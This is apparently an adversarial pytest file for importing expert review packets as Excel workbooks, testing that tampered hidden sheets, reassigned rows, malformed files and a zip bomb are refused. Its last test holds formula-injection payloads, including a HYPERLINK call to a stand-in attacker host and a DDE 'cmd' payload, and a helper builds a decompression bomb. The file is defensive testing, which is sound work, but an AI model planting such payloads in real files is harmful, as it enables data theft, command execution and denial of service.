"""A packet is a request, checked against the review store, never a record of fact (issue #47,
item 1). Each test is one attack of the issue on the expert's packet, made as an expert with Excel
(openpyxl here) would make it — the visible sheet and the hidden ``_packet`` sheet edited, rows
added — and imported by ``python -m engine review packet-import`` (a child process, measured) or
by the app (AppTest of ``ui/app.py``, the Export screen's uploader), or by the engine as the app
calls it with a signed-in account. What must hold: the decisions are the importer's (the signed-in
account, or on the command line the person the store recorded for the packet), only on rows
assigned to that person now, resting on the row versions the store recorded when the packet was
made (a row changed since is a conflict, never overwritten); the whole packet is checked before
anything is written; every refusal is one line (the packet, the row, the fix), never a traceback
and never a server path in the app; a packet bomb is refused under the workbook limits.

Every test here failed on the code before its change (218f249; the formula-like question: fc5380f). Real SQLite, real workbooks;
the drafts come from ``TableDrafter`` (tests/unit/test_sections_drafting.py), a stated fake
drafter: these tests are about the packet, not about generation; no model loads (the app's tests
load the real embedder, as every screen test does)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from engine.app.settings import Settings
from engine.app.workspace import Workspace
from engine.core.accounts import Account, Role, set_caller
from engine.core.types import Action
from engine.review import team
from engine.review.draft_run import draft_questionnaire
from engine.review.packet import PacketRefused, apply_packet, packet_bytes, read_packet
from engine.review.review import Review
from tests.adversarial.conftest import CLI_IMPORTS_MB, measured
from tests.adversarial.test_expert_packet import QUESTIONS, by_id, fill, review_as
from tests.fixtures import write_questionnaire
from tests.unit.test_sections_drafting import TableDrafter

BOMB_SECONDS = 10  # CPU seconds, as for every other zip bomb (tests/adversarial/test_zip_bombs.py)
COMMENT = "x" * 5_000  # over the comment limit (engine/review/team.py COMMENT_LIMIT)


@pytest.fixture()
def folder(tmp_path) -> Path:
    """vendor.xlsx drafted for "lead" by the stated fake (Yes everywhere): ENC-01 and BCK-01
    assigned to the expert Ana, INC-01 to the reviewer Bob, ACC-01 to nobody."""
    folder = tmp_path / "workspace"
    ws = Workspace(folder, Settings(reviewer="lead"))
    book = write_questionnaire(tmp_path / "vendor.xlsx", questions=QUESTIONS)
    project, _ = ws.add_questionnaire("vendor.xlsx", book.read_bytes())
    draft_questionnaire(ws.questionnaire(project.id), TableDrafter({}), ws.review_store, by="lead")
    lead = Review(ws.review_store, 1, ws.questionnaire(1), by="lead")
    team.assign(lead, team.targets(lead, lead.items(), rows=["ENC-01", "BCK-01"]), "Ana")
    team.assign(lead, team.targets(lead, lead.items(), rows=["INC-01"]), "Bob")
    ws.review_store.close()
    return folder


def export(folder: Path, path: Path, person: str = "Ana") -> Path:
    path.write_bytes(packet_bytes(review_as(folder, "lead"), person))
    return path


def hidden(path: Path, edit) -> Path:
    """Edit the hidden ``_packet`` sheet as an expert can (unhide it in Excel): ``edit(sheet)``."""
    wb = openpyxl.load_workbook(path)
    edit(wb["_packet"])
    wb.save(path)
    return path


def set_label(sheet, label: str, value) -> None:
    """The value beside ``label`` in the hidden sheet's column A (person, file, …)."""
    row = next(r for r in range(1, sheet.max_row + 1) if sheet.cell(r, 1).value == label)
    sheet.cell(row, 2, value)


def set_version(sheet, qid: str, version: str) -> None:
    """The version the hidden sheet gives for the row ``qid`` (its fourth column)."""
    row = next(r for r in range(1, sheet.max_row + 1) if sheet.cell(r, 2).value == qid)
    sheet.cell(row, 4, version)


def add_row(path: Path, review: Review, qid: str, choice: str, answer: str) -> None:
    """A row the packet was not made with, added to both sheets (the visible one filled in)."""
    item = by_id(review, qid)
    wb = openpyxl.load_workbook(path)
    wb["Packet"].append([qid, item.question.text, "Yes", item.answer, "Yes, No, N/A", "", choice, answer, None])
    wb["_packet"].append([item.key, qid, item.question.text, str(item.version)])
    wb.save(path)


def decisions(folder: Path) -> dict[str, tuple]:
    """Each row's latest decision: (action, choice, answer, by), or None."""
    review = review_as(folder, "reader")
    try:
        return {
            i.question.id: (i.decision.action, i.choice, i.answer, i.decision.by) if i.decision else None
            for i in review.items()
        }
    finally:
        review.store.close()


def cli_import(folder: Path, packet: Path, *extra: str, timeout: float = 300):
    return measured("review", "packet-import", "1", str(packet), "--store", str(folder), *extra, timeout=timeout)


@pytest.fixture()
def signed_in():
    """``signed_in(account)``: the engine's caller is that account, as in the app's session."""

    def _as(name: str, role: Role) -> Account:
        account = Account(name, role, "2026-01-01T00:00:00+00:00", "2026-01-01T00:00:00+00:00")
        set_caller(lambda: account)
        return account

    yield _as
    set_caller(lambda: None)


# ---- the person, the rows, the versions: from the store, never from the packet --------------------
def test_rows_of_another_reviewer_and_unassigned_rows_added_to_a_packet_are_refused(folder, tmp_path):
    packet = fill(export(folder, tmp_path / "ana.xlsx"), {"ENC-01": ("No", "Only backups are encrypted.", None)})
    lead = review_as(folder, "lead")
    add_row(packet, lead, "INC-01", "No", "We never notify.")  # Bob's row
    add_row(packet, lead, "ACC-01", "No", "No MFA anywhere.")  # nobody's row
    lead.store.close()
    before = decisions(folder)
    run = cli_import(folder, packet)
    assert run.rc == 2, run.stdout + run.stderr
    line = run.error_line(str(packet))
    assert "(INC-01): this ID was not in the packet when it was made" in line, line
    assert "(ACC-01): this ID was not in the packet when it was made" in line, line
    assert "nothing was imported" in line and "delete the row" in line
    assert decisions(folder) == before  # ENC-01 (Ana's, well filled) is not decided either: all or nothing


def test_the_person_in_the_hidden_sheet_is_never_believed(folder, tmp_path):
    packet = fill(export(folder, tmp_path / "ana.xlsx"), {"BCK-01": ("No", "Restored monthly.", None)})
    hidden(packet, lambda sheet: set_label(sheet, "person", "lead"))
    run = cli_import(folder, packet)
    assert run.rc == 0 and "1 decision by Ana" in run.stdout, run.stdout + run.stderr
    assert decisions(folder)["BCK-01"] == (Action.EDIT, "No", "Restored monthly.", "Ana")  # not the lead's


def test_with_approval_on_nobody_both_writes_and_approves_an_answer(tmp_path):
    """The reviewer cy holds a row; cy's packet names the lead in its hidden sheet. The decision
    is cy's, so cy cannot approve it: approval stays a second person's."""
    folder = tmp_path / "workspace"
    ws = Workspace(folder, Settings(reviewer="ana"))
    book = write_questionnaire(tmp_path / "vendor.xlsx", questions=QUESTIONS)
    ws.add_questionnaire("vendor.xlsx", book.read_bytes())
    draft_questionnaire(ws.questionnaire(1), TableDrafter({}), ws.review_store, by="ana")
    lead = Review(ws.review_store, 1, ws.questionnaire(1), by="ana")
    lead.require_approval(True)
    team.assign(lead, team.targets(lead, lead.items(), rows=["ENC-01"]), "cy")
    packet = tmp_path / "cy.xlsx"
    packet.write_bytes(packet_bytes(lead, "cy"))
    ws.review_store.close()
    fill(packet, {"ENC-01": ("No", "Nothing is encrypted.", None)})
    hidden(packet, lambda sheet: set_label(sheet, "person", "ana"))
    run = cli_import(folder, packet)
    assert run.rc == 0, run.stdout + run.stderr
    cy = review_as(folder, "cy")
    enc = by_id(cy, "ENC-01")
    assert (enc.decision.by, enc.answer) == ("cy", "Nothing is encrypted.")
    with pytest.raises(ValueError, match="a second person approves it, not its author"):
        cy.approve(enc.key, expected=enc.version)
    assert cy.store.approvals(1) == []


def test_in_the_app_the_importer_is_the_signed_in_person_the_packet_was_made_for(folder, tmp_path, signed_in):
    packet = fill(export(folder, tmp_path / "ana.xlsx"), {"ENC-01": ("No", "Only backups are encrypted.", None)})
    before = decisions(folder)
    signed_in("lead", Role.LEAD)  # a lead importing Ana's packet would put words in Ana's name
    lead = review_as(folder, "lead")
    with pytest.raises(PacketRefused, match="was made for Ana, and lead is signed in") as refused:
        apply_packet(lead, read_packet(packet, lead))
    assert "sign in as Ana and import it on My questions" in str(refused.value) and "\n" not in str(refused.value)
    assert decisions(folder) == before
    signed_in("Ana", Role.EXPERT)
    ana = review_as(folder, "Ana")
    done = apply_packet(ana, read_packet(packet, ana))
    assert (done.person, len(done.decided)) == ("Ana", 1)
    assert decisions(folder)["ENC-01"] == (Action.EDIT, "No", "Only backups are encrypted.", "Ana")


def test_an_edited_hidden_version_never_hides_a_later_change(folder, tmp_path):
    packet = fill(export(folder, tmp_path / "ana.xlsx"), {"ENC-01": ("No", "Only backups are encrypted.", None)})
    lead = review_as(folder, "lead")
    enc = by_id(lead, "ENC-01")
    lead.edit(enc.key, "Encrypted with AES-256 by the lead.", "Yes", expected=enc.version)  # after the packet went out
    now = str(by_id(lead, "ENC-01").version)
    lead.store.close()
    hidden(packet, lambda sheet: set_version(sheet, "ENC-01", now))  # the expert claims to have seen the lead's edit
    run = cli_import(folder, packet)
    assert run.rc == 0 and "1 conflict" in run.stdout and "conflict ENC-01" in run.stdout, run.stdout + run.stderr
    assert decisions(folder)["ENC-01"] == (Action.EDIT, "Yes", "Encrypted with AES-256 by the lead.", "lead")  # kept


def test_a_bad_version_text_in_the_hidden_sheet_changes_nothing_of_the_import(folder, tmp_path):
    """The hidden sheet's versions are not read: the store's record is (before: the CLI said the
    text is not a row version, and the app showed a traceback)."""
    packet = fill(export(folder, tmp_path / "ana.xlsx"), {"BCK-01": ("No", "Restored monthly.", None)})
    hidden(packet, lambda sheet: set_version(sheet, "BCK-01", "twelve.five"))
    run = cli_import(folder, packet)
    assert run.rc == 0 and "1 decision by Ana, 0 comments, 1 row left empty, 0 conflicts" in run.stdout, run.stderr
    assert "Traceback" not in run.stderr


def test_a_row_reassigned_after_the_packet_went_out_is_refused(folder, tmp_path):
    packet = fill(
        export(folder, tmp_path / "ana.xlsx"),
        {"ENC-01": ("No", "Only backups are encrypted.", None), "BCK-01": ("No", "Restored monthly.", None)},
    )
    lead = review_as(folder, "lead")
    team.assign(lead, team.targets(lead, lead.items(), rows=["BCK-01"]), "Bob")  # taken from Ana meanwhile
    lead.store.close()
    before = decisions(folder)
    run = cli_import(folder, packet)
    assert run.rc == 2, run.stdout + run.stderr
    line = run.error_line(str(packet))
    assert "(BCK-01): it is assigned to Bob now, not to Ana" in line and "assign those rows back" in line, line
    assert decisions(folder) == before  # ENC-01, still Ana's, is not decided either


# ---- all or nothing, one line each, never a traceback ----------------------------------------------
def test_a_good_row_then_a_comment_over_the_limit_writes_nothing(folder, tmp_path):
    packet = fill(
        export(folder, tmp_path / "ana.xlsx"),
        {"ENC-01": ("No", "Only backups are encrypted.", None), "BCK-01": (None, None, COMMENT)},
    )
    before = decisions(folder)
    run = cli_import(folder, packet)
    assert run.rc == 2
    line = run.error_line(str(packet))
    assert "(BCK-01): the comment is 5000 characters long; keep it under 4000" in line, line
    assert decisions(folder) == before
    review = review_as(folder, "x")
    assert review.store.comments() == []


def one_column_hidden_sheet(path: Path) -> Path:
    def keep_a(sheet) -> None:
        sheet.delete_cols(2, sheet.max_column)

    return hidden(path, keep_a)


def malformed_sheet_xml(path: Path) -> Path:
    """The packet sheet's XML cut in the middle of a tag, in an otherwise sound zip."""
    data = io.BytesIO(path.read_bytes())
    with zipfile.ZipFile(data) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            body = zin.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = body[: len(body) // 2] + b'<c r="G2" t="inlineStr"><is><t>No</is></row'
            zout.writestr(info, body)
    return path


def csv_named_packet(path: Path) -> Path:
    target = path.with_suffix(".csv")
    target.write_text("ID,Question,Your choice\nENC-01,Is customer data encrypted at rest?,No\n", encoding="utf-8")
    return target


BROKEN = {  # the malformed packets → what the one line says
    "a .csv named packet": (csv_named_packet, "is not an .xlsx workbook"),
    "a one-column hidden sheet": (one_column_hidden_sheet, "is not an expert packet of this app"),
    "malformed sheet XML": (malformed_sheet_xml, "is not a readable .xlsx workbook"),
}


@pytest.mark.parametrize("attack", list(BROKEN))
def test_a_malformed_packet_is_one_line_on_the_command_line(folder, tmp_path, attack):
    make, said = BROKEN[attack]
    packet = make(fill(export(folder, tmp_path / "ana.xlsx"), {"ENC-01": ("No", "Only backups.", None)}))
    before = decisions(folder)
    run = cli_import(folder, packet)
    assert run.rc == 2, run.stdout + run.stderr
    line = run.error_line(str(packet))
    assert said in line and "nothing was imported" in line, line
    assert decisions(folder) == before


# ---- the same attacks through the app ----------------------------------------------------------------
@pytest.fixture()
def app_folder(ui_workspace, tmp_path) -> Workspace:
    """The app's workspace (tests/ui/conftest.py: no accounts, one person here) with the
    4-question workbook drafted for "lead"; ENC-01 and BCK-01 assigned to Ana."""
    ws = ui_workspace
    book = write_questionnaire(tmp_path / "vendor.xlsx", questions=QUESTIONS)
    project, _ = ws.add_questionnaire("vendor.xlsx", book.read_bytes())
    draft_questionnaire(ws.questionnaire(project.id), TableDrafter({}), ws.review_store, by="lead")
    lead = ws.review(project.id, by="lead")
    team.assign(lead, team.targets(lead, lead.items(), rows=["ENC-01", "BCK-01"]), "Ana")
    return ws


APP_ATTACKS = {  # what the app says, on the Export screen, of each
    "a good row then a 5,000-character comment": (None, "the comment is 5000 characters long; keep it under 4000"),
    "a .csv named packet": (csv_named_packet, None),  # the uploader takes .xlsx only; whatever it lets through
    "a one-column hidden sheet": (one_column_hidden_sheet, "is not an expert packet of this app"),
    "malformed sheet XML": (malformed_sheet_xml, "is not a readable .xlsx workbook"),
}


@pytest.mark.parametrize("attack", list(APP_ATTACKS))
def test_the_app_says_one_line_per_problem_changes_nothing_and_shows_no_path(app_folder, open_screen, tmp_path, attack):
    ws = app_folder
    make, said = APP_ATTACKS[attack]
    packet = tmp_path / "vendor - Ana packet.xlsx"
    packet.write_bytes(packet_bytes(ws.review(1, by="lead"), "Ana"))
    fill(packet, {"ENC-01": ("No", "Only backups are encrypted.", None), "BCK-01": (None, None, COMMENT)})
    if make is not None:
        packet = make(packet)
    before = {i.key: (i.version, i.answer) for i in ws.review(1).items()}
    at = open_screen("export")
    uploader = next(u for u in at.file_uploader if u.label == "Import a filled packet")
    uploader.upload(packet.name, packet.read_bytes(), "application/octet-stream")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert {i.key: (i.version, i.answer) for i in ws.review(1).items()} == before  # nothing changed
    shown = "\n".join(str(e.value) for e in [*at.error, *at.success, *at.warning, *at.markdown])
    assert str(tmp_path) not in shown and "/tmp" not in shown, shown
    if said is not None:
        (error,) = [e for e in at.error if "was not imported" in str(e.value)]
        assert said in str(error.value) and packet.name in str(error.value), error.value


def test_a_bad_version_text_imports_in_the_app_by_the_stores_record(app_folder, open_screen, tmp_path):
    ws = app_folder
    packet = tmp_path / "vendor - Ana packet.xlsx"
    packet.write_bytes(packet_bytes(ws.review(1, by="lead"), "Ana"))
    hidden(fill(packet, {"BCK-01": ("No", "Restored monthly.", None)}), lambda s: set_version(s, "BCK-01", "v2"))
    at = open_screen("export")
    next(u for u in at.file_uploader if u.label == "Import a filled packet").upload(
        packet.name, packet.read_bytes(), "application/octet-stream"
    )
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert f"{packet.name}: 1 answer by Ana, 0 comments, 1 left empty, 0 conflicts." in [s.value for s in at.success]
    bck = next(i for i in ws.review(1).items() if i.question.id == "BCK-01")
    assert (bck.choice, bck.answer, bck.decision.by) == ("No", "Restored monthly.", "Ana")


# ---- a packet bomb -------------------------------------------------------------------------------------
def packet_bomb(packet: Path, cells: int = 8_000_000, per_row: int = 100) -> Path:
    """A real packet whose visible sheet holds ``cells`` numeric cells after its header: about
    0.6 MB that unpack to about 170 MB (the issue's bomb)."""
    data = io.BytesIO(packet.read_bytes())
    cell = b'<c t="n"><v>7</v></c>'
    row = b"<row>" + cell * per_row + b"</row>"
    with zipfile.ZipFile(data) as zin, zipfile.ZipFile(packet, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                zout.writestr(info, zin.read(info))
                continue
            body = zin.read(info)
            head, tail = body.split(b"</sheetData>")
            with zout.open(info.filename, "w", force_zip64=True) as out:
                out.write(head)
                for _ in range(cells // per_row):
                    out.write(row)
                out.write(b"</sheetData>" + tail)
    return packet


def test_a_packet_bomb_is_refused_under_the_workbook_limits_in_bounded_time_and_memory(folder, tmp_path):
    packet = packet_bomb(fill(export(folder, tmp_path / "ana.xlsx"), {"ENC-01": ("No", "Only backups.", None)}))
    with zipfile.ZipFile(packet) as zf:
        unpacked = sum(i.file_size for i in zf.infolist())
    assert packet.stat().st_size < 1_000_000 and unpacked > 160_000_000, (packet.stat().st_size, unpacked)
    before = decisions(folder)
    run = cli_import(folder, packet, timeout=150)  # before: 2.8 GB and 69 s
    assert run.rc == 2, run
    line = run.error_line(str(packet))
    assert "sheet 'Packet' has more than 1,000,000 cells" in line and "--max-cells" in line, line
    assert run.within(BOMB_SECONDS, CLI_IMPORTS_MB), run
    assert decisions(folder) == before
    print(f"\nthe packet bomb refused: {run.cpu_seconds:.1f} s of CPU, {run.peak_mb:.0f} MB peak, {run.seconds:.1f} s")


FORMULA_LIKE = [  # a customer's questions and a reviewer's answer that a spreadsheet would run
    ("ENC-01", '=HYPERLINK("http://attacker.invalid/?"&A1,"Is customer data encrypted at rest?")'),
    ("BCK-01", "-2+3 Are backups tested at least once a year?"),
    ("INC-01", "@SUM(1) Are customers notified of a breach within 72 hours?"),
]


def test_a_question_or_an_answer_that_looks_like_a_formula_is_text_in_the_packet(tmp_path):
    """The packet's question, draft, allowed values and hidden record are written as text: before,
    ``ws.append`` stored a question starting with "=" as a formula (openpyxl's rule for such a
    string), which Excel ran when the expert opened the packet. The packet then comes back and is
    imported, its rows matched by their question text as written."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["ID", "Question", "Answer"])
    for row, (qid, text) in enumerate(FORMULA_LIKE, start=2):
        sheet.cell(row, 1, qid)
        sheet.cell(row, 2, text).data_type = "s"  # text in the customer's file, as they typed it
    rule = openpyxl.worksheet.datavalidation.DataValidation(type="list", formula1='"Yes,No,=1+1"')
    sheet.add_data_validation(rule)
    rule.add("C2:C4")
    book.save(tmp_path / "hostile.xlsx")
    ws = Workspace(tmp_path / "workspace", Settings(reviewer="lead"))
    project, q = ws.add_questionnaire("hostile.xlsx", (tmp_path / "hostile.xlsx").read_bytes())
    draft_questionnaire(q, TableDrafter({}), ws.review_store, by="lead")
    lead = Review(ws.review_store, project.id, q, by="lead")
    enc = by_id(lead, "ENC-01")
    lead.edit(enc.key, "=cmd|' /C calc'!A0", "=1+1", expected=enc.version)  # the reviewer's words, a choice
    team.assign(lead, team.targets(lead, lead.items(), rows=["ENC-01", "BCK-01"]), "Ana")
    path = tmp_path / "packet.xlsx"
    path.write_bytes(packet_bytes(lead, "Ana"))

    with zipfile.ZipFile(path) as zf:
        formulas = [n for n in zf.namelist() if n.startswith("xl/worksheets/") and b"<f>" in zf.read(n)]
    assert formulas == []  # no sheet of the packet holds a formula
    wb = openpyxl.load_workbook(path)
    assert [c.coordinate for s in wb for r in s.iter_rows() for c in r if c.data_type == "f"] == []
    rows = {r[0].value: [c.value for c in r] for r in wb["Packet"].iter_rows(min_row=2)}
    assert rows["ENC-01"][1:5] == [FORMULA_LIKE[0][1], "=1+1", "=cmd|' /C calc'!A0", "Yes, No, =1+1"]
    assert rows["BCK-01"][1] == FORMULA_LIKE[1][1]
    assert FORMULA_LIKE[0][1] in [c.value for r in wb["_packet"].iter_rows() for c in r]

    fill(path, {"ENC-01": ("No", "Encrypted with AES-256.", None)})
    done = apply_packet(lead, read_packet(path, lead))
    assert len(done.decided) == 1 and by_id(lead, "ENC-01").answer == "Encrypted with AES-256."
